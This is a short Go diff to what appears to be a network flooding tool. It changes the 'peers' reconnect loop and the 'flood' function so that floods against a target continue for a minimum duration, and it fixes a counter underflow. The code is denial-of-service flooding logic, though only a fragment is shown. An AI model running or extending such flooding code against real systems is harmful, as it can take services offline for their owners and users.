@@ -241,13 +241,13 @@ func (a *attacker) peers(o *Order, target netip.AddrPort) (Attack, error) {
 	}
 	began := time.Now()
 	left := *o
-	for r.Connects < endless && left.Time > 0 && (o.Count == 0 || r.Sent < o.Count) {
+	for r.Connects < endless && left.Time > 0 && (o.Count == 0 || r.Sent < o.Count || time.Since(began) < o.Least) {
 		c, err := a.connectHostile(target, p, int64(r.Connects+1))
 		if err != nil && (!errors.Is(err, errDeaf) || r.Connects == 0) {
 			return r, err
 		}
 		r.Connects++
-		left.Time = o.Time - time.Since(began)
+		left.Time, left.Least = o.Time-time.Since(began), o.Least-time.Since(began)
 		if err == nil {
 			n, b := c.flood(&left, o.Count-min(r.Sent, o.Count))
 			r.Sent += n
@@ -269,14 +269,14 @@ func (a *attacker) peers(o *Order, target netip.AddrPort) (Attack, error) {
 // flood attacks until the connection is closed.
 func (c *client) flood(o *Order, count uint64) (sent, bytes uint64) {
 	step := *o
-	for began := time.Now(); !c.gone() && time.Since(began) < o.Time && (o.Count == 0 || sent < count); {
+	for began := time.Now(); !c.gone() && time.Since(began) < o.Time && (o.Count == 0 || sent < count || time.Since(began) < o.Least); {
 		step.Time = min(o.Time-time.Since(began), 20*time.Millisecond)
 		if o.Rate > 0 { // in which there must be some datagrams
 			step.Time = max(step.Time, 5*time.Second/time.Duration(o.Rate))
 		}
 		var left uint64
 		if o.Count > 0 {
-			left = count - sent
+			left = count - min(sent, count)
 		}
 		n, b := flood(c.sock, &step, float64(o.Rate), left, c.next)
 		sent += n
